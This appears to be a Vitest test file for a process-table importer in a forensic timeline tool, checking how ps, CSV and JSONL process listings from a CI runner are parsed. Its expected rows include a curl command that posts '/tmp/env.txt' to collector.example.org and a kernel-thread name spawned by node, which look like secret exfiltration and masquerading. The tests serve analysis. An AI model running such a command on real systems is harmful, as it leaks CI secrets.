import { describe, expect, it } from 'vitest';
import { processTableImporter } from '../../electron/import/formats/process-table';
import { formatNanos, parseRfc3339 } from '../../shared/time';
import { fixture, inputFromBytes, inputFromPath, runImporter } from './formats-harness';

describe('process table importer', () => {
  it('ps -eo pid,ppid,lstart,etime,args output', async () => {
    const f = fixture('process-table', 'ps-lstart.txt');
    expect(processTableImporter.sniff(inputFromPath(f))).toBeGreaterThanOrEqual(0.8);
    const out = await runImporter(processTableImporter, f);
    expect(out.proc.map((p) => [p.event, p.pid, p.ppid, p.exe, p.origin])).toEqual([
      ['exec', 1700, 1, '/home/runner/actions-runner/bin/Runner.Listener', 'table'],
      ['exec', 1800, 1700, '/home/runner/actions-runner/bin/Runner.Worker', 'table'],
      ['exec', 2300, 1800, '/usr/bin/bash', 'table'],
      ['exec', 2401, 2300, 'node', 'table'],
      ['exec', 2402, 2401, 'kworker/u4:2', 'table'],
    ]);
    expect(out.proc[2]!.ts).toBe(parseRfc3339('2026-06-17T08:40:30Z'));
    expect(out.proc[3]!.args).toEqual(['node', '/usr/local/bin/npm', 'ci']);
    expect(out.warnings.map((w) => w.line)).toEqual([6, null]);
    expect(out.warnings[1]!.message).toMatch(/no zone: read as UTC/);
  });

  it('CSV with header aliases, quoted fields, end times, bad rows', async () => {
    const f = fixture('process-table', 'agent-export.csv');
    expect(processTableImporter.sniff(inputFromPath(f))).toBeGreaterThanOrEqual(0.8);
    const out = await runImporter(processTableImporter, f);
    expect(out.proc.map((p) => [p.event, p.pid, p.ppid ?? null, p.exe ?? null])).toEqual([
      ['exec', 1800, 1700, '/home/runner/actions-runner/bin/Runner.Worker'],
      ['exec', 2300, 1800, '/usr/bin/bash'],
      ['exit', 2300, null, null],
      ['exec', 2460, 2300, 'curl'],
      ['exit', 2460, null, null],
      ['exec', 2480, 2300, 'sleep'],
    ]);
    const bash = out.proc[1]!;
    expect(bash.args).toEqual(['/usr/bin/bash', '-e', '/home/runner/work/_temp/4d1c.sh']);
    expect(bash.cwd).toBe('/home/runner/work/app/app');
    expect(bash.ts).toBe(parseRfc3339('2026-06-17T08:40:30.100200300Z'));
    expect(out.proc[4]!.ts).toBe(parseRfc3339('2026-06-17T08:40:45.000000500Z'));
    expect(out.proc[3]!.args).toEqual(['curl', '-sS', 'https://collector.example.org/v1/upload', '-d', '@/tmp/env.txt']);
    expect(out.warnings.map((w) => [w.line, w.message])).toEqual([
      [5, expect.stringContaining('without a start time')],
      [6, expect.stringContaining('end is before start')],
      [7, expect.stringContaining('is not a time')],
    ]);
  });

  it('JSON lines with epoch ms / exact ns / RFC 3339 times', async () => {
    const f = fixture('process-table', 'agent-export.jsonl');
    expect(processTableImporter.sniff(inputFromPath(f))).toBeGreaterThanOrEqual(0.8);
    const out = await runImporter(processTableImporter, f);
    const curl = out.proc.find((p) => p.pid === 2460 && p.event === 'exec')!;
    expect(curl.ts).toBe(1781685644001002003n);
    expect(curl.args).toEqual(['curl', '-sS', 'https://collector.example.org/v1/upload']);
    expect(out.proc.find((p) => p.pid === 2460 && p.event === 'exit')).toMatchObject({ exit_code: 7, ts: 1781685645000000500n });
    expect(out.proc.find((p) => p.pid === 1800)!.ts).toBe(parseRfc3339('2026-06-17T08:39:58Z'));
    expect(out.warnings).toEqual([{ line: 4, message: expect.stringContaining('numeric pid') }]);
  });

  it('leaves the bundle process-table.csv header and event streams to their importers', () => {
    expect(processTableImporter.sniff(inputFromBytes('process-table.csv', 'pid,ppid,start,end,exe,args,cwd,uid\n1,0,2026-06-17T08:40:00Z,,/sbin/init,init,/,0\n'))).toBeLessThan(0.1);
    expect(processTableImporter.sniff(inputFromBytes('processes.jsonl', '{"ts":"2026-06-17T08:40:00Z","event":"exec","pid":1,"ppid":0,"start":"x"}\n'))).toBe(0);
  });
});

describe('ps -ef and ps aux (short start columns, day from --date)', () => {
  const day = parseRfc3339('2026-08-10T00:00:00Z');
  it('ps -ef: STIME 14:05 on the given day, Aug08 at the day start, a bare year skipped with a warning', async () => {
    const f = fixture('process-table', 'ps-ef.txt');
    expect(processTableImporter.sniff(inputFromPath(f))).toBeGreaterThanOrEqual(0.8);
    const out = await runImporter(processTableImporter, f, { date: day });
    expect(out.proc.map((p) => [p.pid, p.ppid, formatNanos(p.ts).slice(0, 16), p.exe])).toEqual([
      [1, 0, '2026-08-08T00:00', '/sbin/init'],
      [2300, 1, '2026-08-10T14:05', '/home/runner/runners/2.330.0/bin/Runner.Worker'],
      [2460, 2300, '2026-08-10T14:06', '/usr/bin/bash'],
      [2471, 2460, '2026-08-10T14:06', 'curl'],
    ]);
    expect(out.proc[3]!.args).toEqual(['curl', '-sS', 'https://collector.example.org/upload']);
    expect(out.warnings.map((w) => [w.line, w.message])).toContainEqual([6, expect.stringMatching(/only a year/)]);
  });
  it('ps aux (no PPID): a flat list of processes, not a refusal', async () => {
    const f = fixture('process-table', 'ps-aux.txt');
    expect(processTableImporter.sniff(inputFromPath(f))).toBeGreaterThanOrEqual(0.8);
    const out = await runImporter(processTableImporter, f, { date: day });
    expect(out.proc.map((p) => [p.pid, p.ppid ?? null, formatNanos(p.ts).slice(0, 16)])).toEqual([
      [1, null, '2026-08-08T00:00'],
      [2300, null, '2026-08-10T14:05'],
      [2471, null, '2026-08-10T14:06'],
    ]);
  });
  it('without a day: time-of-day rows are skipped, each with a warning asking for --date', async () => {
    const out = await runImporter(processTableImporter, fixture('process-table', 'ps-ef.txt'));
    expect(out.proc).toHaveLength(0);
    expect(out.warnings.filter((w) => /--date/.test(w.message)).map((w) => w.line)).toEqual([2, 3, 4, 5]);
  });
});
